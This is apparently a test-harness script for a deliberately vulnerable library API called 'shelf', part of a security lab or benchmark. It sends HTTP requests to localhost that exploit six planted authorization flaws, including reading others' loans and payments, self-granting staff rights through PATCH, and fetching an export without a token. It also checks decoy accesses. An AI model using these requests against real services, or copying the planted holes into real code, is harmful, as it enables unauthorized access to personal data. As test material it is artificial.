#!/usr/bin/env python3
"""Prove every flaw and every decoy of the `shelf` target with real HTTP requests.

    python3 verify.py PORT [--hardened]

Stdlib only. Against the normal target every flaw must hold; with --hardened (the target started
with --hardened) every flaw must be refuted. The decoys must hold in both modes. Exit 0 only if
all of that is true. The script works on objects it creates (a book, a hold) and undoes the
privilege it grants, so the seed data stays as it was.
"""

from __future__ import annotations

import json
import sys
import urllib.error
import urllib.parse
import urllib.request
from typing import Any

PORT = int(sys.argv[1]) if len(sys.argv) > 1 else 8311
HARDENED = "--hardened" in sys.argv[2:]
PASSWORDS = {"alice": "Alice-reads-2024", "bob": "Bob-reads-2024", "lena": "Lena-desk-2024!"}
ALICE, BOB = "34ffe071-5765-4cf7-80a4-1d5f550d5ea1", "222c07ad-afb6-4346-8dd0-2e027b8a1572"
ALICE_LOAN, ALICE_PAYMENT = (
    "3f1b6f39-d1dd-4fac-9a1c-6bc4372d5bf0",
    "2ce34eb5-1a36-4dfb-bc5a-acedcbab7f89",
)
ALICE_EXPORT, BOOK = "ea8b3705-f97f-434e-b3ee-44a70d7dc56d", "a065c26c-b135-4b5c-9149-613b21cecf8a"
SHARED_LIST, PRIVATE_LIST = (
    "74e2cbf0-fb25-471c-8f84-b30f111f92f0",
    "ac836e84-bbd3-40ae-9519-d6ee287f7732",
)
V1 = "/api/v1"
failures: list[str] = []
tokens: dict[str, str] = {}


def call(method: str, path: str, who: str | None = None, body: Any = None) -> tuple[int, Any]:
    headers = {"Accept": "application/json"}
    if who:
        headers["Authorization"] = f"Token {token(who)}"
    data = None
    if body is not None:
        data, headers["Content-Type"] = json.dumps(body).encode(), "application/json"
    request = urllib.request.Request(
        f"http://127.0.0.1:{PORT}{path}", data=data, method=method, headers=headers
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            status, raw = response.status, response.read()
    except urllib.error.HTTPError as exc:
        status, raw = exc.code, exc.read()
    return status, json.loads(raw) if raw else None


def token(who: str) -> str:
    if who not in tokens:
        form = urllib.parse.urlencode({"username": who, "password": PASSWORDS[who]}).encode()
        url = f"http://127.0.0.1:{PORT}{V1}/auth/token/"
        with urllib.request.urlopen(urllib.request.Request(url, data=form), timeout=10) as r:
            tokens[who] = json.loads(r.read())["token"]
    return tokens[who]


def expect(label: str, ok: bool, detail: object) -> None:
    print(f"{'ok  ' if ok else 'FAIL'} {label}" + ("" if ok else f"  -> {detail}"))
    if not ok:
        failures.append(label)


def flaw(label: str, holds: bool, detail: object) -> None:
    """A flaw must hold on the normal target and be refuted on the hardened one."""
    expect(f"{label} ({'refuted' if HARDENED else 'holds'})", holds != HARDENED, detail)


def main() -> int:
    mode = "hardened" if HARDENED else "vulnerable"
    print(f"shelf on 127.0.0.1:{PORT}, expecting the {mode} mode")
    # SH-01: ?member= filter without the staff check.
    s, b = call("GET", f"{V1}/loans/?member={ALICE}", "bob")
    leaked = s == 200 and any(loan["id"] == ALICE_LOAN for loan in b["data"])
    flaw("SH-01 bob lists alice's loans with ?member=", leaked, (s, b))
    s, b = call("GET", f"{V1}/loans/", "bob")
    expect(
        "bob's own loan list holds only his loans",
        s == 200 and all(x["member"] == BOB for x in b["data"]),
        (s, b),
    )
    # SH-02: anyone cancels anyone's hold. alice places a fresh hold for the test.
    s, hold = call("POST", f"{V1}/holds/", "alice", {"book": BOOK})
    expect("alice places a hold", s == 201, (s, hold))
    s, b = call("POST", f"{V1}/holds/{hold['id']}/cancel/", "bob")
    flaw("SH-02 bob cancels alice's hold", s == 200 and b["status"] == "cancelled", (s, b))
    s, b = call("GET", f"{V1}/holds/{hold['id']}/", "bob")
    expect("bob cannot read alice's hold (the read path checks)", s == 404, (s, b))
    s, b = call("POST", f"{V1}/holds/{hold['id']}/cancel/", "alice")
    expect("alice cancels her own hold", s == 200, (s, b))
    # SH-03: payment receipt by id, login only.
    s, b = call("GET", f"{V1}/payments/{ALICE_PAYMENT}/", "bob")
    flaw(
        "SH-03 bob reads alice's payment receipt",
        s == 200 and b.get("billing_name") == "Alice Moreau",
        (s, b),
    )
    # SH-04: any member deletes a catalogue entry. lena adds a book for the test.
    s, book = call("POST", f"{V1}/books/", "lena", {"title": "Verify Me", "author": "A. Tester"})
    expect("lena (librarian) adds a book", s == 201, (s, book))
    s, b = call("POST", f"{V1}/books/", "alice", {"title": "Nope", "author": "A. Tester"})
    expect("alice cannot add a book", s == 403, (s, b))
    s, b = call("DELETE", f"{V1}/books/{book['id']}/", "alice")
    flaw("SH-04 alice (member) deletes a book", s == 204, (s, b))
    if s != 204:
        s, b = call("DELETE", f"{V1}/books/{book['id']}/", "lena")
        expect("lena deletes the test book", s == 204, (s, b))
    # SH-05: self-update accepts is_staff.
    s, b = call("PATCH", f"{V1}/members/me/", "bob", {"is_staff": True, "display_name": "Bob K."})
    flaw(
        "SH-05 bob makes himself staff via PATCH /members/me/",
        s == 200 and b["is_staff"] is True,
        (s, b),
    )
    s, b = call("GET", f"{V1}/members/{ALICE}/", "bob")
    flaw("SH-05 ... and then reads alice's member record", s == 200, (s, b))
    call("PATCH", f"{V1}/members/me/", "bob", {"is_staff": False, "display_name": "Bob Kowalski"})
    s, b = call("GET", f"{V1}/members/me/", "bob")
    expect("bob is a plain member again", s == 200 and b["is_staff"] is False, (s, b))
    # SH-06: GDPR export downloads without a token.
    s, b = call("GET", f"{V1}/exports/{ALICE_EXPORT}/")
    exposed = s == 200 and b["profile"]["email"] == "alice@mail.example"
    flaw("SH-06 anonymous downloads alice's data export", exposed, (s, b))
    s, b = call("GET", f"{V1}/exports/{ALICE_EXPORT}/", "alice")
    expect("alice downloads her own export", s == 200, (s, b))

    # Decoys: intended accesses.
    s, b = call("GET", f"{V1}/books/?page_size=2")
    expect(
        "decoy: anonymous browses the catalogue (paginated)",
        s == 200 and len(b["data"]) == 2 and b["links"]["next"],
        (s, b),
    )
    s, b = call("GET", f"{V1}/books/{BOOK}/")
    expect("decoy: anonymous reads a catalogue entry", s == 200 and b["title"], (s, b))
    s, b = call("GET", f"{V1}/lists/{SHARED_LIST}/", "bob")
    expect(
        "decoy: bob reads the list alice shared with him",
        s == 200 and BOB in b["shared_with"],
        (s, b),
    )
    s, b = call("GET", f"{V1}/lists/{PRIVATE_LIST}/", "bob")
    expect("decoy: bob gets 404 on alice's private list", s == 404, (s, b))
    s, b = call("GET", f"{V1}/members/{ALICE}/", "lena")
    expect(
        "decoy: lena (librarian) reads alice's member record",
        s == 200 and b["email"] == "alice@mail.example",
        (s, b),
    )
    s, b = call("GET", f"{V1}/members/{ALICE}/", "bob")
    expect("decoy: bob gets 404 on alice's member record", s == 404, (s, b))
    s, b = call("GET", f"{V1}/loans/{ALICE_LOAN}/", "lena")
    expect("decoy: lena reads alice's loan", s == 200, (s, b))
    s, b = call("GET", f"{V1}/loans/{ALICE_LOAN}/", "bob")
    expect("decoy: bob gets 404 on alice's loan", s == 404, (s, b))
    s, b = call("GET", f"{V1}/loans/?member={ALICE}", "lena")
    expect("decoy: lena lists alice's loans at the desk", s == 200 and len(b["data"]) == 2, (s, b))
    s, b = call("GET", f"{V1}/branches/")
    expect("decoy: anonymous lists the branches", s == 200 and len(b["data"]) == 2, (s, b))
    s, b = call("GET", f"{V1}/loans/")
    expect("anonymous gets 401 on loans", s == 401, (s, b))
    print(f"{len(failures)} failure(s)" if failures else "all hold")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
